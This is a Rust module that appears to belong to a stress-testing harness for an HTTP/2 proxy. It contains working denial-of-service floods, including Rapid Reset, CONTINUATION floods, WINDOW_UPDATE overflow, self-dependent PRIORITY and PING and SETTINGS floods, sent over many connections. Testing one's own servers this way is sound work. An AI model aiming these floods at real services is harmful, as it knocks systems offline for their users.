//! Floods of HTTP/2 frames: each connection writes as fast as it is read, and comes back when it is told to go.

use super::{
    Kind, Options, Shared, connect,
    frames::{self, Watch, frame},
};
use std::rc::Rc;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::tcp::{OwnedReadHalf, OwnedWriteHalf},
    time::{Instant, timeout_at},
};

/// Frames, or requests with what spoils them, in one write.
const BATCH: usize = 64;
/// The largest number of a client's stream, with room for a batch.
const LAST_STREAM: u32 = 0x7fff_ff00;

pub(super) async fn run(options: &Options, until: Instant, struck: &Shared) -> anyhow::Result<()> {
    println!("ready");
    let mut tasks = Vec::new();
    for _ in 0..options.connections {
        let (options, struck) = (options.clone(), Rc::clone(struck));
        tasks.push(tokio::task::spawn_local(async move {
            while Instant::now() < until {
                let ended = timeout_at(until, connection(&options, &struck)).await;
                match ended {
                    Err(_) => return,
                    Ok(true) => struck.borrow_mut().ended += 1,
                    // Nobody accepts: a moment later maybe.
                    Ok(false) => tokio::time::sleep(std::time::Duration::from_millis(5)).await,
                }
            }
        }));
    }
    for task in tasks {
        task.await?;
    }
    Ok(())
}

/// One connection until the proxy ends it; false when there was none.
async fn connection(options: &Options, struck: &Shared) -> bool {
    let Ok(stream) = connect(options.address, None, struck).await else { return false };
    let (read, write) = stream.into_split();
    tokio::select! {
        () = watch(read) => {}
        () = write_on(options.kind, write, struck) => {}
    }
    true
}

/// Reads until the end or GOAWAY.
async fn watch(mut read: OwnedReadHalf) {
    let mut buffer = vec![0; 16 * 1024];
    let mut watch = Watch::default();
    loop {
        match read.read(&mut buffer).await {
            Ok(0) | Err(_) => return,
            Ok(count) if watch.saw_goaway(buffer.get(..count).unwrap_or_default()) => return,
            Ok(_) => {}
        }
    }
}

/// Writes until that fails.
async fn write_on(kind: Kind, mut write: OwnedWriteHalf, struck: &Shared) {
    let mut bytes = frames::preface(65_535);
    begin(kind, &mut bytes);
    let mut stream = 1;
    loop {
        for _ in 0..BATCH {
            again(kind, &mut bytes, stream);
            stream += 2;
        }
        if stream > LAST_STREAM || write.write_all(&bytes).await.is_err() {
            return;
        }
        struck.borrow_mut().bytes += bytes.len() as u64;
        bytes.clear();
    }
}

/// What comes once, before the flood.
fn begin(kind: Kind, bytes: &mut Vec<u8>) {
    if kind == Kind::Continuation {
        frame(bytes, frames::HEADERS, frames::END_STREAM, 1, &frames::request(false, "/attack"));
    } else if kind == Kind::EmptyData {
        let block = frames::request(true, "/attack");
        frame(bytes, frames::HEADERS, frames::END_HEADERS, 1, &block);
    }
}

/// One more of the flood.
fn again(kind: Kind, bytes: &mut Vec<u8>, stream: u32) {
    let spoiled = |bytes: &mut Vec<u8>, kind: u8, flags: u8, payload: &[u8]| {
        let block = frames::request(false, "/attack");
        let whole = frames::END_STREAM | frames::END_HEADERS;
        frame(bytes, frames::HEADERS, whole, stream, &block);
        frame(bytes, kind, flags, stream, payload);
    };
    let cancel = 8_u32.to_be_bytes();
    let own_weight = [&stream.to_be_bytes()[..], &[16]].concat();
    match kind {
        Kind::RapidReset => spoiled(bytes, frames::RST_STREAM, 0, &cancel),
        Kind::WindowZero => spoiled(bytes, frames::WINDOW_UPDATE, 0, &[0; 4]),
        Kind::WindowOverflow => spoiled(bytes, frames::WINDOW_UPDATE, 0, &[0x7f, 255, 255, 255]),
        Kind::PriorityLength => spoiled(bytes, frames::PRIORITY, 0, &[0; 4]),
        Kind::PrioritySelf => spoiled(bytes, frames::PRIORITY, 0, &own_weight),
        Kind::HeadersAfterEnd => {
            let whole = frames::END_STREAM | frames::END_HEADERS;
            spoiled(bytes, frames::HEADERS, whole, &frames::request(false, "/attack"));
        }
        Kind::DataAfterEnd => spoiled(bytes, frames::DATA, 0, b"x"),
        Kind::Continuation => {
            let mut block = Vec::new();
            frames::field(&mut block, false, "x-attack", b"on");
            frame(bytes, frames::CONTINUATION, frames::NONE, 1, &block);
        }
        // SETTINGS_MAX_CONCURRENT_STREAMS
        Kind::Settings => frame(bytes, frames::SETTINGS, frames::NONE, 0, &[0, 3, 0, 0, 0, 100]),
        Kind::Ping => frame(bytes, frames::PING, frames::NONE, 0, &[1; 8]),
        Kind::EmptyData => frame(bytes, frames::DATA, frames::NONE, 1, &[]),
        Kind::Bomb
        | Kind::Stall
        | Kind::SlowHead
        | Kind::SlowBody
        | Kind::SlowRead
        | Kind::Crowd
        | Kind::Churn => {}
    }
}
